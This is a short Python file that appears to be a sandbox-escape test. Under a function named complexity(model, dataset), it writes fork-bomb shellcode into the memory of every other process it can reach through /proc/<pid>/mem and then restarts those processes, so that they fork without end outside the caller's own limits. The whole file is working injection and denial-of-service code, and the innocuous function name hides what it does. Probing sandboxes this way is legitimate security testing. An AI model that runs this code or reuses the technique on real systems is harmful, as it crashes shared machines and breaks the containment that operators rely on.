"""Writes code into another process of the sandbox, to fork without end there: its limits may be wider."""

import os
import platform
import signal
import time

EXPECT = ("OK",)
#: again: mov eax, 57 (fork); syscall; test eax, eax; jnz again; wait: mov eax, 34 (pause); syscall; jmp wait
CODE = bytes.fromhex("b839000000 0f05 85c0 75f5 b822000000 0f05 ebf7")
MOST = 128 + 4 * os.cpu_count()


def processes():
    """All that are listed; where none are, numbers near one's own."""
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        return [1, *range(max(os.getpid() - 300, 2), os.getpid() + 50)]


def complexity(model, dataset):
    if platform.machine() != "x86_64":
        return 1.0
    for pid in set(processes()) - {os.getpid()}:
        try:
            waits_at = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16) - 2  # the call is begun anew from here
            memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            os.pwrite(memory, CODE, waits_at)
        except OSError:
            continue
        os.kill(pid, signal.SIGSTOP)
        time.sleep(0.1)
        os.kill(pid, signal.SIGCONT)
        time.sleep(0.5)
        print(f"BREACH: code written into {pid}; there are {len(processes())} processes, {MOST} are allowed")
    return 1.0
